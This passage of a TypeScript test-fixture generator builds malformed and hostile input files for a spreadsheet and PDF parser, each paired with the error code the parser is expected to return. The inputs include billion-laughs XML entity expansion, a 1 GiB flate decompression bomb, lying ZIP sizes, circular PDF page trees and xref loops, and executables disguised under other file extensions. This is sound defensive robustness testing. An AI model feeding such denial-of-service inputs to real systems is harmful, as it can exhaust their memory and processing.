  await add({ name: 'false-sizes-large.xlsx', what: 'ZIP headers declare a sheet of 4 GB (it is 1 KB)', args: INV, exit: 1, code: 'parse-error' },
    zip(xlsxParts(sheetXml(INV_ROWS)).map((e) => (e.name.includes('sheet1') ? { ...e, declaredSize: 0xfffffff0 } : e))));
  await add({ name: 'false-compressed-size.xlsx', what: 'a compressed size past the end of the archive', args: INV, exit: 1, code: 'parse-error' },
    zip(xlsxParts(sheetXml(INV_ROWS)).map((e) => (e.name.includes('sheet1') ? { ...e, declaredCompressedSize: 0x7ffffff0 } : e))));
  await add({ name: 'billion-laughs-sheet.xlsx', what: 'entity expansion ("billion laughs") declared in the sheet XML: never expanded', args: INV, exit: 1, code: null,
    check: (f) => (f.validRows === 0 || hasCode(f, 'parse-error') || hasCode(f, 'missing-header') || hasCode(f, 'type-error') ? null : 'the entity must not become a value') },
  zip(xlsxParts(sheetXml([...INV_ROWS, ['BRG-LOL', '&lol9;', '&lol9;', 1, 'strip']], LAUGHS).replace(/&amp;lol9;/g, '&lol9;'))));
  await add({ name: 'billion-laughs-sharedstrings.xlsx', what: 'entity expansion in sharedStrings.xml: never expanded', args: INV, exit: 0, code: null,
    check: (f) => (f.validRows === 3 ? null : `validRows ${f.validRows}`) },
  zip(xlsxParts(sheetXml([...INV_ROWS, ['BRG-LOL', '#sst:0', 1000, 1, '#sst:1']]),
    `${XML}${LAUGHS}<sst xmlns="${NS}" count="2" uniqueCount="2"><si><t>&lol9;</t></si><si><t>strip&lol9;</t></si></sst>`)));
  await add({ name: 'nul-in-cell.xlsx', what: 'a cell holding &#0; and _x0000_ (NUL characters once read)', args: INV, exit: 1, code: 'encoding-error',
    check: (f) => (f.validRows === 2 ? null : `validRows ${f.validRows}`) },
  zip(xlsxParts(sheetXml([...INV_ROWS, ['BRG-NUL', 'Obat NULHERE', 1000, 1, 'strip']]).replace('NULHERE', '&#0;_x0000_'))));
  await add({ name: 'huge-dimension.xlsx', what: 'a sheet whose <dimension> and last cell claim 1,048,576 rows × 16,384 columns', args: INV, exit: 0, code: null,
    check: (f) => (f.validRows === 2 ? null : `validRows ${f.validRows}`) },
  zip(xlsxParts(sheetXml(INV_ROWS).replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>')
    .replace('</sheetData>', '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row></sheetData>'))));
  await add({ name: 'sst-count-lie.xlsx', what: 'sharedStrings declares 2,000,000,000 strings and holds one', args: INV, exit: 0, code: null },
    zip(xlsxParts(sheetXml([...INV_ROWS, ['BRG-S', '#sst:0', 1000, 1, 'strip']]),
      `${XML}<sst xmlns="${NS}" count="2000000000" uniqueCount="2000000000"><si><t>Obat</t></si></sst>`)));
  await add({ name: 'csv-named.xlsx', what: 'a CSV named .xlsx: read as the CSV it is, in the merchant\'s locale (4.500 is 4500.00)', args: INV, exit: 0, code: null,
    stage: true, stagedCells: ['4500.00', '12500.00', '24800.00'],
    check: (f) => (f.validRows === 3 ? null : `validRows ${f.validRows}`) }, CSV_OK);
  await add({ name: 'tsv-named.xls', what: 'a semicolon CSV named .xls with id-ID decimals', args: INV, exit: 0, code: null,
    stage: true, stagedCells: ['4500.50', '1234567.00'],
    check: (f) => (f.validRows === 2 ? null : `validRows ${f.validRows}`) },
  'kode_barang;nama_barang;harga_jual;stok;satuan\nBRG-1;Obat A;4.500,50;1;strip\nBRG-2;Obat B;1.234.567;2;strip\n');
  await add({ name: 'html-table.xls', what: 'an HTML table saved as .xls (still read by the spreadsheet reader)', args: INV, exit: 0, code: null,
    check: (f) => (f.validRows === 1 ? null : `validRows ${f.validRows}`) },
  '<html><body><table><tr><td>kode_barang</td><td>nama_barang</td><td>harga_jual</td><td>stok</td><td>satuan</td></tr>'
    + '<tr><td>BRG-1</td><td>Obat A</td><td>4500</td><td>1</td><td>strip</td></tr></table></body></html>\n');
  await add({ name: 'elf-named.xlsx', what: 'an ELF executable header named .xlsx', args: INV, exit: 1, code: 'parse-error', stage: true }, elf());
  await add({ name: 'png-named.xlsx', what: 'PNG bytes named .xlsx', args: INV, exit: 1, code: 'parse-error' }, png());
  await add({ name: 'zip-not-xlsx.xlsx', what: 'a ZIP archive holding no workbook', args: INV, exit: 1, code: 'parse-error' },
    zip([{ name: 'readme.txt', data: Buffer.from('hello') }]));
  await add({ name: 'biff-garbage.xls', what: 'an OLE2/CFB header (XLS) followed by seeded garbage', args: INV, exit: 1, code: 'parse-error', stage: true },
    Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from(Array.from({ length: 8192 }, () => Math.floor(rng() * 256)))]));
  await add({ name: 'biff-truncated-header.xls', what: 'a CFB header of 512 bytes and nothing else', args: INV, exit: 1, code: 'parse-error' },
    (() => { const b = Buffer.alloc(512); Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(b); b.writeUInt16LE(0x3e, 24); b.writeUInt16LE(3, 26); b.writeUInt16LE(0xfffe, 28); b.writeUInt16LE(9, 30); b.writeInt32LE(-2, 48); b.writeUInt32LE(1, 44); return b; })());

  // ------------------------------------------------------------------ PDF
  const goodPdf = textPdf([CLAIM_PDF_LINES]);
  await add({ name: 'truncated.pdf', what: 'a PDF cut at 60% (no xref, no trailer)', args: [], exit: 1, code: 'parse-error', stage: true },
    goodPdf.subarray(0, Math.floor(goodPdf.length * 0.6)));
  await add({ name: 'header-only.pdf', what: 'just "%PDF-1.7"', args: [], exit: 1, code: 'parse-error' }, '%PDF-1.7\n');
  await add({ name: 'circular-pages.pdf', what: 'a /Pages node whose kid is itself', args: [], config: 'low', exit: 1, code: 'parse-error' },
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>', '<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>']));
  await add({ name: 'page-parent-loop.pdf', what: 'two /Pages nodes that are each other\'s kid, and a page inheriting through the loop', args: [], config: 'low', exit: 1, code: 'parse-error' },
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Parent 3 0 R /Count 1 >>', '<< /Type /Pages /Kids [2 0 R 4 0 R] /Parent 2 0 R /Count 1 >>',
      `<< /Type /Page /Parent 3 0 R /Contents 5 0 R >>`, stream(pdfText(['hello']))]));
  await add({ name: 'xref-prev-loop.pdf', what: 'a trailer whose /Prev points at its own xref (an endless xref chain): read once, no template', args: [], config: 'low', exit: 1, code: 'no-template' },
  pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>', FONT, stream(pdfText(['hello world']))],
  { trailer: '/Prev $XREF ' }));
  await add({ name: 'self-referencing-xobject.pdf', what: 'a form XObject that draws itself (endless recursion)', args: [], config: 'low', exit: 1, code: 'parse-error' },
  pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /X1 5 0 R >> >> /Contents 4 0 R >>',
    stream('/X1 Do'), stream('/X1 Do', '/Type /XObject /Subtype /Form /BBox [0 0 10 10] /Resources << /XObject << /X1 5 0 R >> >> ')]));
  await add({ name: 'deep-nesting.pdf', what: '100,000 nested arrays in the page dictionary', args: [], config: 'low', exit: 1, code: 'parse-error' },
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Junk ${'['.repeat(100_000)}${']'.repeat(100_000)} /Contents 4 0 R >>`, stream(pdfText(['hello']))]));
  await add({ name: 'flate-bomb.pdf', what: 'a page content stream inflating to 1 GiB (~4.5 MB on disk)', args: [], exit: 1, code: 'file-too-large', stage: true, maxRssMiB: 600 },
  async (p) => {
    const bomb = await deflatedZeros(1024 * MB);
    // Raw deflate needs a zlib wrapper for /FlateDecode: header 78 01, then the Adler-32 (pdf.js does not check it).
    const zlibStream = Buffer.concat([Buffer.from([0x78, 0x01]), bomb.bytes, Buffer.alloc(4)]);
    writeFileSync(p, pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>', FONT,
      stream(zlibStream, '/Filter /FlateDecode ')]));
  });
  await add({ name: 'encrypted.pdf', what: 'an /Encrypt dictionary (standard handler) with a user password', args: [], exit: 1, code: 'encrypted-file', stage: true },
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      `<< /Filter /Standard /V 1 /R 2 /O <${'4f'.repeat(32)}> /U <${'55'.repeat(32)}> /P -4 >>`],
    { trailer: `/Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16)}>] ` }));
  await add({ name: 'image-only.pdf', what: 'a page with an image and no text: OCR finds no text on it', args: [], exit: 1, code: 'needs-review' },
    pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>',
      stream('q 500 0 0 700 40 70 cm /Im1 Do Q'),
      stream(Buffer.alloc(64 * 64, 0x80), '/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 ')]));
  await add({ name: 'too-many-pages.pdf', what: '201 pages: past the default limit of 200', args: [], exit: 1, code: 'file-too-large' },
    textPdf(Array.from({ length: 201 }, (_, i) => [`Halaman ${i + 1}`])));
  await add({ name: 'too-many-pages-low.pdf', what: '6 pages with the limit lowered to 5', args: [], config: 'low', exit: 1, code: 'file-too-large', stage: true },
    textPdf(Array.from({ length: 6 }, (_, i) => [`Halaman ${i + 1}`])));
  await add({ name: 'count-lie.pdf', what: '/Count 1000000000 on a page tree with one page: read as the one page it has (a claim missing most fields: needs-review)', args: [], exit: 1, code: 'needs-review' },
  pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>', FONT, stream(pdfText(CLAIM_PDF_LINES))]));
  await add({ name: 'no-template.pdf', what: 'a readable text PDF of an unknown issuer holding a patient name and little else: the generic reader reads it, needs-review (name never printed)', args: [], exit: 1, code: 'needs-review' },
    textPdf([['KLINIK TIDAK DIKENAL', 'Nama Pasien : Siti Rahmawati Kusumadewi', 'Tgl Lahir : 17/08/1961']]));
  await add({ name: 'gzip-named.pdf', what: 'gzip bytes named .pdf', args: [], exit: 1, code: 'parse-error', stage: true }, gzipSync(goodPdf));
  await add({ name: 'png-named.pdf', what: 'PNG bytes named .pdf', args: [], exit: 1, code: 'parse-error' }, png());
  await add({ name: 'pdf-named.csv', what: 'a PDF named .csv, validated as merchant_inventory: a PDF cannot hold it', args: INV, exit: 1, code: 'parse-error' }, goodPdf);

  // ------------------------------------------------------------------ other
  await add({ name: 'unsupported.docx', what: 'a file type halo-data does not read', args: INV, exit: 1, code: 'parse-error' },
    zip([{ name: 'word/document.xml', data: Buffer.from('<w:document/>') }]).subarray(4)); // not even a ZIP signature
  return { dir, cases, configs, lakes };
}

function utf32le(s: string): Buffer {
  const cps = [...s].map((c) => c.codePointAt(0)!);
  const b = Buffer.alloc(cps.length * 4);
  cps.forEach((cp, i) => b.writeUInt32LE(cp, i * 4));
  return b;
}

function utf32be(s: string): Buffer {
  const cps = [...s].map((c) => c.codePointAt(0)!);
  const b = Buffer.alloc(cps.length * 4);
  cps.forEach((cp, i) => b.writeUInt32BE(cp, i * 4));
  return b;
}

/** A 1×1 PNG (signature, IHDR, IDAT, IEND). */
function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(td) >>> 0);
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr),
    chunk('IDAT', deflateRawSync(Buffer.from([0, 0]))), chunk('IEND', Buffer.alloc(0))]);
}

/** The first 256 bytes an x86-64 ELF executable might have. */
function elf(): Buffer {
  const b = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b);
  b.writeUInt16LE(2, 16); b.writeUInt16LE(0x3e, 18); b.writeUInt32LE(1, 20); b.writeBigUInt64LE(0x401000n, 24); b.writeBigUInt64LE(64n, 32);
  b.writeUInt16LE(64, 52); b.writeUInt16LE(56, 54); b.writeUInt16LE(1, 56);
  Buffer.from('/lib64/ld-linux-x86-64.so.2\0', 'latin1').copy(b, 120);
  return b;
}
